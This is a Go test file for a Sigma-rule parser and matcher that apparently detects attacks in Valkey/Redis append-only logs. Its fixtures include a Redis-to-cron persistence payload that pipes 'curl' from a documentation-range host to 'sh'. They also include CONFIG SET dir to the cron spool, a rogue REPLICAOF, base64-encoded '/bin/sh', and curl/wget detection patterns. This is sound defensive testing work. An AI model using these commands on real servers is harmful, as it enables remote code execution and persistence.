package sigma

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/valkeyfs/valkeyfs/keyspace"
	"github.com/valkeyfs/valkeyfs/scan"
)

// event is a command as words.
func event(words ...string) *Event {
	e := &keyspace.Event{Kind: keyspace.Command, DB: 3, Index: int64(len(words)), Pos: keyspace.Pos{Source: "data/appendonly.aof.1.incr.aof"}}
	for _, w := range words {
		e.Args = append(e.Args, []byte(w))
	}
	return NewEvent(e)
}

// rule makes a rule of a detection.
func rule(t *testing.T, detection string) *Rule {
	t.Helper()
	rules, err := Parse("r.yml", []byte("title: t\nlogsource: {product: valkey}\ndetection:\n  "+strings.ReplaceAll(strings.TrimSpace(detection), "\n", "\n  ")+"\n"))
	if err != nil {
		t.Fatal(err)
	}
	return rules[0]
}

func TestMatching(t *testing.T) {
	cron := []string{"set", "backup1", "\n\n*/2 * * * * root curl -fsSL http://198.51.100.7/i.sh|sh\n\n"}
	config := []string{"CONFIG", "SET", "dir", "/var/spool/cron"}
	for _, c := range []struct {
		detection string
		words     []string
		want      bool
	}{
		{"s: {command: SET}\ncondition: s", cron, true},
		{"s: {command: set}\ncondition: s", cron, true},
		{"s: {command|cased: set}\ncondition: s", cron, false},
		{"s: {command: [GET, SET]}\ncondition: s", cron, true},
		{"s: {command: GET}\ncondition: not s", cron, true},
		{"s: {command: SET, key: other}\ncondition: s", cron, false},
		{"s: {key: 'backup?'}\ncondition: s", cron, true},
		{"s: {key: 'back*'}\ncondition: s", cron, true},
		{"s: {key: 'back'}\ncondition: s", cron, false},
		{`s: {key: 'backup\?'}` + "\ncondition: s", cron, false},
		{"s: {args|contains|all: ['curl', '|sh']}\ncondition: s", cron, true},
		{"s: {args|contains|all: ['curl', 'wget']}\ncondition: s", cron, false},
		{`s: {args|re: '\*/[0-9]+ \* \* \* \*'}` + "\ncondition: s", cron, true},
		{"s: {args|re|i: 'CURL'}\ncondition: s", cron, true},
		{"s: {args|re: 'CURL'}\ncondition: s", cron, false},
		{"s: {args|startswith: backup}\ncondition: s", cron, true},
		{"s: {args|endswith: \"|sh\\n\\n\"}\ncondition: s", cron, true},
		{"s: [curl, wget]\ncondition: s", cron, true},
		{"s: [nothing, wget]\ncondition: s", cron, false},
		{"s:\n- command: GET\n- key: backup1\ncondition: s", cron, true},
		{"s: {db: 3, argc: 3}\ncondition: s", cron, true},
		{"s: {argc|gt: 2, argc|lte: 3}\ncondition: s", cron, true},
		{"s: {argc|lt: 3}\ncondition: s", cron, false},
		{"s: {source|endswith: .incr.aof}\ncondition: s", cron, true},
		{"s: {subcommand: SET}\ncondition: s", config, true},
		{"s: {subcommand: null}\ncondition: s", cron, true},
		{"s: {subcommand|exists: true}\ncondition: s", cron, false},
		{"s: {key|exists: false}\ncondition: s", config, true},
		{"s: {args: [dir, dbfilename]}\ncondition: s", config, true},
		{"s: {args|contains: http*sh}\ncondition: s", cron, true},
		{"s: {args|cidr: 198.51.100.0/24}\ncondition: s", []string{"REPLICAOF", "198.51.100.7", "6379"}, true},
		{"s: {args|cidr: 198.51.100.0/24}\ncondition: s", []string{"REPLICAOF", "203.0.113.7", "6379"}, false},
		{"s: {args|base64offset|contains: '/bin/sh'}\ncondition: s", []string{"SET", "k", "eCAvYmluL3NoIHg="}, true},
		{"s: {args|base64offset|contains: '/bin/sh'}\ncondition: s", []string{"SET", "k", "L2Jpbi9zaA=="}, true},
		{"s: {args|base64: 'abc'}\ncondition: s", []string{"SET", "k", "YWJj"}, true},
		{"a: {command: SET}\nb: {key: x}\ncondition: a and not b", cron, true},
		{"a: {command: SET}\nb: {key: x}\ncondition: a and b", cron, false},
		{"a: {command: GET}\nb: {key: backup1}\nc: {db: 9}\ncondition: (a or b) and not c", cron, true},
		{"a1: {command: GET}\na2: {key: backup1}\ncondition: 1 of a*", cron, true},
		{"a1: {command: GET}\na2: {key: backup1}\ncondition: all of a*", cron, false},
		{"a1: {command: SET}\n_x: {key: no}\ncondition: all of them", cron, true},
		{"a: {command: GET}\nb: {command: SET}\ncondition: [a, b]", cron, true},
		{"s: {key: [a, b]}\ncondition: s", []string{"DEL", "x", "b"}, true},
		{"s: {key: k}\ncondition: s", []string{"EVAL", "return 1", "1", "k", "a"}, true},
		{"s: {key: a}\ncondition: s", []string{"EVAL", "return 1", "1", "k", "a"}, false},
		{"s: {key: x}\ncondition: s", []string{"XGROUP", "CREATE", "x", "g", "$"}, true},
		{"s: {command: SYSTEM.EXEC}\ncondition: s", []string{"system.exec", "id"}, true},
	} {
		if got := rule(t, c.detection).Matches(event(c.words...)); got != c.want {
			t.Errorf("%v on %q: %v", c.detection, c.words, got)
		}
	}
}

// What cannot be honoured is refused, with its place.
func TestRefusals(t *testing.T) {
	head := "title: t\nlogsource:\n  product: redis\n"
	for text, want := range map[string]string{
		"":                   "r.yml:1: no rule",
		"- a":                "r.yml:1: the rule is not a mapping",
		"title: [":           "r.yml: line 1",
		"title: t\ntitle: u": "r.yml:2: \"title\" stands twice",
		head:                 "r.yml:1: no detection",
		"title: t\nlogsource: {product: windows}\ndetection: {s: [x], condition: s}": "r.yml:2: the rule is not for",
		"title: t\ndetection: {s: [x], condition: s}":                                "no logsource",
		head + "level: loud\n": "r.yml:4: unknown level \"loud\"",
		head + "detection:\n  s:\n    Image: x\n  condition: s\n":                        "r.yml:6: no such field: \"Image\"",
		head + "detection:\n  s:\n    args|utf16: x\n  condition: s\n":                   "r.yml:6: modifier \"utf16\" is not supported",
		head + "detection:\n  s:\n    args|contains|re: x\n  condition: s\n":             "r.yml:6: modifier \"re\"",
		head + "detection:\n  s:\n    args|re: '['\n  condition: s\n":                    "r.yml:6: error parsing regexp",
		head + "detection:\n  s:\n    args|cidr: x\n  condition: s\n":                    "r.yml:6: cidr",
		head + "detection:\n  s:\n    argc|gt: x\n  condition: s\n":                      "r.yml:6: gt: \"x\" is no number",
		head + "detection:\n  s:\n    args: {a: b}\n  condition: s\n":                    "r.yml:6: a value is neither",
		head + "detection:\n  s: []\n  condition: s\n":                                   "r.yml:5: an empty selection",
		head + "detection:\n  s: [x]\n  timeframe: 1m\n  condition: s\n":                 "r.yml:6: timeframe",
		head + "detection:\n  s: [x]\n  condition: s | count() > 3\n":                    "r.yml:6: condition: rules that count",
		head + "detection:\n  s: [x]\n  condition: t\n":                                  "r.yml:6: condition: no selection is called \"t\"",
		head + "detection:\n  s: [x]\n  condition: s and\n":                              "it ends too soon",
		head + "detection:\n  s: [x]\n  condition: (s\n":                                 "a parenthesis is not closed",
		head + "detection:\n  s: [x]\n  condition: s s\n":                                "what is \"s\" doing there?",
		head + "detection:\n  s: [x]\n  condition: 1 of y*\n":                            "no selection is called like \"y*\"",
		head + "detection:\n  s: [x]\n  condition: few of s\n":                           "\"few\" of",
		head + "detection:\n  s: [x]\n  condition: " + strings.Repeat("not ", 100) + "s": "nested too deeply",
		head + "detection:\n  s: [x]\n":                                                  "r.yml:5: no condition",
		head + "detection: {s: &a [x], t: *a, condition: t}":                             "neither a mapping nor a list",
		"action: global\n" + head:                                                        "r.yml:1: action",
	} {
		if _, err := Parse("r.yml", []byte(text)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %s", text, err, want)
		}
	}
}

func TestLoad(t *testing.T) {
	dir := t.TempDir()
	put := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	const detection = "logsource: {product: redis}\ndetection: {s: [x], condition: s}\n"
	put("b/two.yaml", "title: Zulu, two\nlevel: critical\ntags: [attack.persistence, attack.t1053.003]\n"+detection)
	put("a.yml", "title: alpha\nstatus: experimental\n"+detection+"---\ntitle: Beta!\nlevel: informational\n"+detection)
	other := put("win.yml", "title: w\nlogsource: {product: windows}\ndetection: {s: [x], condition: s}\n")
	put("notes.txt", "no rule")
	j, err := Load([]string{dir})
	if err != nil {
		t.Fatal(err)
	}
	infos := j.Rules()
	if j.Others != 1 || len(infos) != 3 || infos[0].ID != "sigma-alpha" || infos[1].ID != "sigma-beta" || infos[2].ID != "sigma-zulu-two" {
		t.Fatalf("%d others, %+v", j.Others, infos)
	}
	if infos[0].Confidence != scan.Possible || infos[1].Severity != scan.Info || infos[2].Severity != scan.Critical || infos[2].Technique != "T1053.003" || infos[2].Category != scan.Artefact {
		t.Errorf("%+v", infos)
	}
	if _, err := Load([]string{other}); !errors.Is(err, ErrOther) {
		t.Errorf("a file that was named: %v", err)
	}
	put("c.yml", "title: Alpha\n"+detection)
	if _, err := Load([]string{dir}); err == nil || !strings.Contains(err.Error(), "its title is that of ") {
		t.Errorf("two of one title: %v", err)
	}
}

// The example of the documentation does what it says.
func TestDocumentedExample(t *testing.T) {
	text, err := os.ReadFile("../../docs/detection.md")
	if err != nil {
		t.Fatal(err)
	}
	_, rest, ok := strings.Cut(string(text), "```yaml sigma\n")
	example, _, ended := strings.Cut(rest, "```")
	if !ok || !ended {
		t.Fatal("no example")
	}
	rules, err := Parse("docs/detection.md", []byte(example))
	if err != nil {
		t.Fatal(err)
	}
	if !rules[0].Matches(event("SET", "backup1", "*/2 * * * * root curl -fsSL http://198.51.100.7/i.sh|sh")) || rules[0].Matches(event("SET", "manual", "use curl | less")) {
		t.Error("the example matches what it should not, or does not match")
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("title: t\nlogsource: {product: redis}\ndetection:\n  s: {args|contains: x, key: '*a?'}\n  condition: not (s or 1 of s*)\n"))
	f.Fuzz(func(_ *testing.T, text []byte) {
		rules, err := Parse("f", text)
		if err != nil {
			return
		}
		for _, r := range rules {
			r.Matches(event("SET", "k", "v"))
			r.Matches(event())
		}
	})
}
